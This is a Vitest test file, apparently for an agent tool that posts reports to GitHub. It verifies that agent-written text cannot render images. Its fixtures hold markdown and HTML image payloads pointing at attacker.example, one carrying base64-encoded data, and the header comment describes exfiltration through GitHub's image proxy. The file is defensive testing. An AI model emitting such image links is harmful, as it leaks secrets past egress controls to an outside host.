/** Agent text renders no image: GitHub's image proxy would fetch its URL, data in it, past the egress allowlist. */
import { describe, expect, it } from "vitest";
import type { RunResult } from "../../src/core/loop.js";
import type { RoundReport } from "../../src/core/report.js";
import { EMPTY_RUN_STATE } from "../../src/core/state.js";
import { safeText } from "../../src/core/sanitize.js";
import { renderFinalComment } from "../../src/render/final-comment.js";
import { renderPullRequestBody } from "../../src/render/pull-request.js";
import { renderRoundComment } from "../../src/render/round-comment.js";
import { tableRound } from "../../src/render/round-table.js";
import type { PostedRound } from "../../src/render/text.js";
import { renderContextOf } from "../support/render-context.js";

const ctx = renderContextOf();

const report: RoundReport = {
  status: "complete",
  summary: "Fixed ![b](https://attacker.example/p.png?d=c2VjcmV0) and ![r][img]",
  evidence: ["![e](https://attacker.example/e.png)\n\n[img]: https://attacker.example/r.png", '<img src="https://attacker.example/i.png">'],
  nextSteps: ["![n]( https://attacker.example/n.png )"],
  blocker: null,
};

const round: PostedRound = {
  round: 1,
  status: "complete",
  report,
  failure: null,
  verification: null,
  outputTail: "",
  commit: { sha: "a".repeat(40), changed: true, notes: [], failure: null, unpushed: null },
  durationMs: 1000,
  elapsedMs: 1200,
  commentUrl: "https://github.example/octo/hello/issues/7#issuecomment-1",
};

const ended: RunResult = {
  outcome: "budget-limited",
  by: "rounds",
  handoff: report,
  rounds: [round],
  state: EMPTY_RUN_STATE,
  elapsedMs: 5000,
};

/** The body without fenced code blocks, where GitHub renders no image. */
function outsideCode(body: string): string {
  return body.replace(/^(`{3,}|~{3,}).*\n[\s\S]*?\n\1$/gm, "");
}

describe("agent text renders no image", () => {
  const summary = "Fixed ![b](https://attacker.example/p.png?d=c2VjcmV0)";
  it.each([
    ["the round comment", () => renderRoundComment(round, ctx), summary],
    [
      "the pull request body",
      () => renderPullRequestBody({ final: report, verification: null, rounds: [tableRound(round, ctx)] }, ctx),
      summary,
    ],
    ["the final comment", () => renderFinalComment(ended, ctx, { lastPushedSha: null, keptUrl: null }), "- ![n]( https://attacker"],
  ])("%s", (_name, render, shown) => {
    const body = outsideCode(render());
    // An image opens with an unescaped `![`; HTML's `<` is escaped.
    expect(body).not.toMatch(/(?<!\\)(?:\\\\)*!\[/);
    expect(body).not.toMatch(/<img/i);
    // Still readable: the escape shows as nothing on the page.
    expect(body.replace(/\\\[/g, "[")).toContain(shown);
  });

  it("escapes `![` whatever precedes it, and leaves links and text alone", () => {
    expect(safeText("a ![x](u) \\![y](v) [link](https://example.com) 1 ! [2]", [])).toBe(
      "a !\\[x](u) \\!\\[y](v) [link](https://example.com) 1 ! [2]",
    );
  });
});
